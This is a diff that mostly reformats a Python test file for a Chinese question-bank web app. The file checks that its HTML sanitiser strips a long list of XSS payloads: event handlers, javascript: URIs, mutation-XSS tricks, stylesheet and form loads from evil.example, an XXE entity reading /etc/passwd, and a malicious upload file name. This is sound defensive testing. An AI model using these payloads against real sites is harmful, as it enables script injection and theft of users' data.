@@ -20,7 +20,17 @@ from tests.questions.test_adding import picture, single, version_of
 from tests.questions.test_back_office import SINGLE
 
 _EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter")
-_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "marquee", "a href=x", "p style=x")
+_TAGS = (
+    "img src=x",
+    "svg",
+    "body",
+    "input autofocus",
+    "details open",
+    "video src=x",
+    "marquee",
+    "a href=x",
+    "p style=x",
+)
 VECTORS = [f"<{tag} {event}=alert(1)>x</{tag.split()[0]}>" for tag in _TAGS for event in _EVENTS] + [
     f'<a href="{scheme}">x</a>' for scheme in (
         "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)",
@@ -30,20 +40,20 @@ VECTORS = [f"<{tag} {event}=alert(1)>x</{tag.split()[0]}>" for tag in _TAGS for 
     "/media/" + "0" * 63, "/media/" + "G" * 64, "bank:missing.png", "file:///etc/passwd", "\\\\evil\\a.png", "blob:x")] + [
     "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>", "<script\x00>alert(1)</script>",
     "<style>@import url(https://evil.example)</style>", "<style>*{background:url(//evil.example)}</style>", '<div style="background:url(javascript:alert(1))">x</div>',
-    '<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href="//evil.example/">',
+    "<link rel=stylesheet href=//evil.example>", '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href="//evil.example/">',
     "<iframe src=javascript:alert(1)></iframe>", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<object data=javascript:alert(1)></object>", "<embed src=//evil.example>",
     '<form action="//evil.example"><input name=csrf_token><button formaction="//evil.example">x</button></form>', "<isindex action=javascript:alert(1)>",
-    '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>', '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
+    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>', "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<math href="javascript:alert(1)">x</math>',
-    '<math><mi xlink:href="data:x,<script>alert(1)</script>">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>',
-    '<table><td background="javascript:alert(1)">x', '<p id="csrf_token" class="btn" name="x">x</p>', '<textarea><img src=x onerror=alert(1)>', '<title><img src=x onerror=alert(1)></title>',
-    '<xmp><img src=x onerror=alert(1)></xmp>', '<plaintext><img src=x onerror=alert(1)>', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>',
-    '<?xml-stylesheet href="javascript:alert(1)"?>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;', '<audio src=x onerror=alert(1)>', '<source srcset=//evil.example/x>',
-    '<img srcset="//evil.example/a.png 2x" src=x>', '<img src=x lowsrc="javascript:alert(1)" dynsrc=x usemap=#m>', '<map name=m><area href=javascript:alert(1)></map>',
-    '<form id=test></form><button form=test formaction=javascript:alert(1)>x', '<select><style></select><img src=x onerror=alert(1)></style>', '<keygen autofocus onfocus=alert(1)>',
-    '<dialog open onclose=alert(1)>x</dialog>', '<slot name=x onslotchange=alert(1)>', '<x onclick=alert(1)>x</x>', '<portal src=javascript:alert(1)>', '<applet code=x>', '<frameset onload=alert(1)>',
-    '<bgsound src=//evil.example>', '<layer src=//evil.example>', '<xss style="behavior:url(x)">', '<b contenteditable oninput=alert(1)>x</b>', '<i accesskey=x onclick=alert(1)>x</i>', '<u tabindex=1 onfocus=alert(1)>x</u>',
+    '<math><mi xlink:href="data:x,<script>alert(1)</script>">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<template><script>alert(1)</script></template>",
+    '<table><td background="javascript:alert(1)">x', '<p id="csrf_token" class="btn" name="x">x</p>', "<textarea><img src=x onerror=alert(1)>", "<title><img src=x onerror=alert(1)></title>",
+    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    '<?xml-stylesheet href="javascript:alert(1)"?>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;', "<audio src=x onerror=alert(1)>", "<source srcset=//evil.example/x>",
+    '<img srcset="//evil.example/a.png 2x" src=x>', '<img src=x lowsrc="javascript:alert(1)" dynsrc=x usemap=#m>', "<map name=m><area href=javascript:alert(1)></map>",
+    "<form id=test></form><button form=test formaction=javascript:alert(1)>x", "<select><style></select><img src=x onerror=alert(1)></style>", "<keygen autofocus onfocus=alert(1)>",
+    "<dialog open onclose=alert(1)>x</dialog>", "<slot name=x onslotchange=alert(1)>", "<x onclick=alert(1)>x</x>", "<portal src=javascript:alert(1)>", "<applet code=x>", "<frameset onload=alert(1)>",
+    "<bgsound src=//evil.example>", "<layer src=//evil.example>", '<xss style="behavior:url(x)">', "<b contenteditable oninput=alert(1)>x</b>", "<i accesskey=x onclick=alert(1)>x</i>", "<u tabindex=1 onfocus=alert(1)>x</u>",
 ]  # fmt: skip
 _ALLOWED = {
     "p", "br", "b", "strong", "i", "em", "u", "s", "sub", "sup", "ul", "ol", "li", "table", "thead", "tbody", "tr", "td", "th", "img", "blockquote", "pre", "code", "span",
@@ -72,10 +82,20 @@ def page_dangers(page):
 
     found = []
     for element in parser.document_fromstring(page).iter():
-        if element.tag in {"iframe", "object", "embed", "svg", "math", "style", "base"} or (element.tag == "script" and not element.get("src", "").startswith("/static/")):
+        if element.tag in {"iframe", "object", "embed", "svg", "math", "style", "base"} or (
+            element.tag == "script" and not element.get("src", "").startswith("/static/")
+        ):
             found.append(element.tag)
-        found += [f"{name}={value}" for name, value in element.attrib.items() if name.startswith("on") or name in {"style", "srcset", "formaction"}]
-        found += [element.attrib[name] for name in ("src", "href", "action") if not re.match(r"/(?!/)|#|\?|$", element.attrib.get(name, ""))]
+        found += [
+            f"{name}={value}"
+            for name, value in element.attrib.items()
+            if name.startswith("on") or name in {"style", "srcset", "formaction"}
+        ]
+        found += [
+            element.attrib[name]
+            for name in ("src", "href", "action")
+            if not re.match(r"/(?!/)|#|\?|$", element.attrib.get(name, ""))
+        ]
     return found
 
 
@@ -89,7 +109,9 @@ def test_no_vector_survives_in_any_text_of_a_question(session, is_html):
         text = f"字{vector}"
         question = single(stem=text, options=(text, "乙", "丙", "丁"), explanation=text, is_html=is_html)
         case = model.Question(kind=model.Kind.CASE, stem=text, parts=(question,), is_html=is_html)
-        content = version_of(session, add_question(session, question=case, state="draft", actor=SYSTEM, now=clock.now())).content
+        content = version_of(
+            session, add_question(session, question=case, state="draft", actor=SYSTEM, now=clock.now())
+        ).content
         part = content["parts"][0]
         for shown in (content["material"], part["stem"], part["options"][0]):
             assert dangers(shown) == [], (vector, shown)
@@ -99,7 +121,15 @@ def test_vectors_through_the_editor_are_harmless_on_every_page(world, session):
     office = world.api(world.admin("publicity_office"))
     attack = "字" + "".join(VECTORS[-40:]) + "{{7*7}}{% raw %}${7*7}"
     for is_html in ("y", ""):
-        data = SINGLE | {"parts-0-stem": attack, "parts-0-options-0": attack, "parts-0-explanation": attack, "knowledge_points": '"><script>alert(1)</script>', "is_html": is_html, "law": "<i onclick=x>法", "parts-0-articles": "第一条<script>"}
+        data = SINGLE | {
+            "parts-0-stem": attack,
+            "parts-0-options-0": attack,
+            "parts-0-explanation": attack,
+            "knowledge_points": '"><script>alert(1)</script>',
+            "is_html": is_html,
+            "law": "<i onclick=x>法",
+            "parts-0-articles": "第一条<script>",
+        }
         assert office.post("/admin/questions/new/single_choice", data=data).status_code == 302
         question = session.scalars(select(Question).order_by(Question.id.desc())).first()
         for path in ("", "/edit", "/key"):
@@ -112,7 +142,10 @@ def test_vectors_through_the_editor_are_harmless_on_every_page(world, session):
 def test_vectors_through_an_import_are_harmless_in_preview_and_bank(world, session):
     office = world.api(world.admin("publicity_office"))
     aiken = "".join(f"字{vector.replace(chr(10), ' ')}谁？\nA. 甲\nB. 乙\nANSWER: A\n\n" for vector in VECTORS[:60])
-    answer = office.post("/admin/questions/imports/", data={"file": (io.BytesIO(aiken.encode()), "<img src=x onerror=alert(1)>.txt"), "format": "auto"})
+    answer = office.post(
+        "/admin/questions/imports/",
+        data={"file": (io.BytesIO(aiken.encode()), "<img src=x onerror=alert(1)>.txt"), "format": "auto"},
+    )
     page = office.get(answer.location).get_data(as_text=True)
     assert "<img src=x" not in page and "onerror=alert(1)&gt;.txt" in page
     office.post(f"{answer.location}/confirm", data={"state": "active"})
@@ -121,7 +154,16 @@ def test_vectors_through_an_import_are_harmless_in_preview_and_bank(world, sessi
 
 
 def test_invisible_and_direction_turning_signs_are_taken_out(session):
-    stem = version_of(session, add_question(session, question=single(stem="谁\u202e决\u200b定\u2066？\ufeff\x07"), state="draft", actor=SYSTEM, now=clock.now())).content["parts"][0]["stem"]
+    stem = version_of(
+        session,
+        add_question(
+            session,
+            question=single(stem="谁\u202e决\u200b定\u2066？\ufeff\x07"),
+            state="draft",
+            actor=SYSTEM,
+            now=clock.now(),
+        ),
+    ).content["parts"][0]["stem"]
     assert stem == "谁决定？"
 
 
@@ -131,22 +173,45 @@ def test_text_of_nothing_is_refused(session, stem):
         if not is_html and "<" in stem:
             continue
         with pytest.raises(UnfitQuestionError, match="空的"):
-            add_question(session, question=single(stem=stem, is_html=is_html), state="draft", actor=SYSTEM, now=clock.now())
+            add_question(
+                session, question=single(stem=stem, is_html=is_html), state="draft", actor=SYSTEM, now=clock.now()
+            )
 
 
 def test_endless_text_is_refused_and_a_long_word_stored_whole(session):
     with pytest.raises(UnfitQuestionError, match="精简"):
         add_question(session, question=single(stem="长" * 100_000), state="draft", actor=SYSTEM, now=clock.now())
     with pytest.raises(UnfitQuestionError, match="精简"):
-        add_question(session, question=single(stem=f"<p>{'长' * 100_000}</p>", is_html=True), state="draft", actor=SYSTEM, now=clock.now())
-    assert len(version_of(session, add_question(session, question=single(stem="长" * 9000), state="draft", actor=SYSTEM, now=clock.now())).search_text) > 9000
+        add_question(
+            session,
+            question=single(stem=f"<p>{'长' * 100_000}</p>", is_html=True),
+            state="draft",
+            actor=SYSTEM,
+            now=clock.now(),
+        )
+    assert (
+        len(
+            version_of(
+                session,
+                add_question(session, question=single(stem="长" * 9000), state="draft", actor=SYSTEM, now=clock.now()),
+            ).search_text
+        )
+        > 9000
+    )
 
 
 def _claimed_png(width, height):
     head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
     chunk = struct.pack(">I", len(head)) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
     data = zlib.compress(b"\x00" * 1000)
-    return b"\x89PNG\r\n\x1a\n" + chunk + struct.pack(">I", len(data)) + b"IDAT" + data + struct.pack(">I", zlib.crc32(b"IDAT" + data))
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk
+        + struct.pack(">I", len(data))
+        + b"IDAT"
+        + data
+        + struct.pack(">I", zlib.crc32(b"IDAT" + data))
+    )
 
 
 @pytest.mark.parametrize("content", [
@@ -193,5 +258,11 @@ def test_bad_picture_in_a_file_is_a_named_loss(world, session):
 
     image = model.Image(name="a.svg", media_type="image/svg+xml", content=b"<svg onload='alert(1)'/>")
     question = single(stem='<p>图</p><img src="bank:a.svg">', is_html=True, images=(image,))
-    taken = take_over(session, reading=Reading("x", imported=[ReadQuestion(question, "第 1 行")]), state="draft", actor=SYSTEM, now=clock.now())
+    taken = take_over(
+        session,
+        reading=Reading("x", imported=[ReadQuestion(question, "第 1 行")]),
+        state="draft",
+        actor=SYSTEM,
+        now=clock.now(),
+    )
     assert len(taken.ids) == 1 and taken.losses[0]["where"] == "第 1 行" and "a.svg" in taken.losses[0]["reason"]
